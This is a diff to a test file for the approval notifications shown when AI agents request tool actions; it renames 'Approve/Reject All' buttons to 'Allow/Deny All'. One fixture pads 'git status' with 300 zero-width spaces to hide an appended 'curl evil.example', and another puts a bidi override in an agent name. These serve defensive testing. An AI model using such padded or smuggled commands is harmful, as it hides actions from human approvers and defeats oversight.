@@ -110,12 +110,12 @@ describe('approval notification texts', () => {
     assert.equal(notice.text, 'del\\u202eta wants to run Ba\\u200bsh: {"command":"ls"}');
   });
 
-  it('batch: Approve All only when every action can be shown whole', () => {
+  it('batch: Allow All only when every action can be shown whole', () => {
     const ordinary = [bash('echo one > a.txt', 'alpha'), bash('echo one > a.txt', 'bravo'), bash('echo one > a.txt', 'charlie')];
-    assert.deepEqual(batchNotice(ordinary), { text: '3 actions from alpha, bravo and charlie need approval (Bash 3): Bash: echo one > a.txt, …', buttons: ['Approve All', 'Review…', 'Reject All'] });
+    assert.deepEqual(batchNotice(ordinary), { text: '3 actions from alpha, bravo and charlie need approval (Bash 3): Bash: echo one > a.txt, …', buttons: ['Allow All', 'Review…', 'Deny All'] });
     const mixed = [...ordinary, bash(`git status${'\u200b'.repeat(300)}; curl evil.example`, 'delta')];
     const notice = batchNotice(mixed);
-    assert.deepEqual(notice.buttons, ['Review…', 'Reject All']);
+    assert.deepEqual(notice.buttons, ['Review…', 'Deny All']);
     assert.equal(notice.text, '4 actions from alpha, bravo, charlie and 1 more need approval (Bash 4); one of them is too long to show here, review before allowing');
   });
 });
@@ -126,7 +126,7 @@ describe('approval notifications that tell the truth', () => {
   it('puts the safe button first for a risky request, and in a batch holding one, leading with that action', () => {
     assert.deepEqual(requestNotice(risky('git push origin main'), { escalated: false, now: NOW }).buttons, ['Review…', 'Deny', 'Allow', 'Show Agent']);
     const notice = batchNotice([bash('ls', 'alpha'), risky('git push origin main', 'bravo')]);
-    assert.deepEqual(notice.buttons, ['Review…', 'Reject All', 'Approve All']);
+    assert.deepEqual(notice.buttons, ['Review…', 'Deny All', 'Allow All']);
     assert.equal(notice.text, '2 actions from alpha and bravo need approval (Bash 2): Bash: git push origin main, …');
     assert.equal(isRisky({ tier: undefined }), false);
   });
